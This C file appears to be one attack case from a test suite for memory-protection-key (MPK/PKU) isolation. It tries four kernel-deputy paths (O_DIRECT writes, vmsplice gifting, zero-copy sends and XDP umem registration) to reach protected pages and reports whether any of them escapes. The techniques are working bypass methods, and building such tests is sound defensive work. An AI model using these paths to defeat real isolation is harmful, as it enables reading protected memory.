/* attack
class: deputy
aim: memory
may-be-closed: true
expect: { none: escapes, mpk: contained }
source: pku-pitfalls
variants:
  - { args: [direct], tries: "pages pinned for direct input and output" }
  - { args: [gift], tries: "pages given away into a pipe, and read from it" }
  - { args: [zerocopy], tries: "pages sent over a socket without a copy" }
  - { args: [umem], tries: "pages given to a packet socket (XDP)" }
*/
/* Calls for which the kernel pins the pages themselves and works on them later, when no key of this thread is looked at any more. */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
static int reaches(const char *how, uintptr_t at) {
    struct iovec one = {(void *)at, 4096};
    char copy[4096];
    if (strcmp(how, "direct") == 0) {
        int file = open("direct", O_RDWR | O_CREAT | O_DIRECT, 0600);
        return file >= 0 && pwrite(file, (void *)at, 4096, 0) > 0;
    }
    if (strcmp(how, "gift") == 0) {
        int ends[2];
        if (pipe(ends)) return 0;
        return vmsplice(ends[1], &one, 1, SPLICE_F_GIFT | SPLICE_F_NONBLOCK) > 0 && read(ends[0], copy, sizeof copy) > 0;
    }
    if (strcmp(how, "zerocopy") == 0) {
        int server = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0), on = 1;
        struct sockaddr_in name = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t bytes = sizeof name;
        if (bind(server, (void *)&name, sizeof name) || listen(server, 1) || getsockname(server, (void *)&name, &bytes)) return 0;
        if (connect(client, (void *)&name, sizeof name)) return 0;
        int accepted = accept(server, NULL, NULL);
        if (setsockopt(client, SOL_SOCKET, SO_ZEROCOPY, &on, sizeof on)) return 0;
        return send(client, (void *)at, 4096, MSG_ZEROCOPY | MSG_DONTWAIT) > 0 && recv(accepted, copy, sizeof copy, 0) > 0;
    }
    int packet = socket(44 /* AF_XDP */, SOCK_RAW, 0);
    struct { uint64_t address, bytes; uint32_t chunk, headroom, flags, more; } umem = {at, 4096, 4096, 0, 0, 0};
    return packet >= 0 && setsockopt(packet, 283 /* SOL_XDP */, 4 /* XDP_UMEM_REG */, &umem, sizeof umem) == 0;
}
int main(int argc, char **argv) {
    struct target t[64];
    int n = read_targets(t, 64), escaped = 0;
    for (int i = 0; i < n && !escaped; i++) escaped |= reaches(argc > 1 ? argv[1] : "direct", t[i].from);
    verdict(escaped);
}
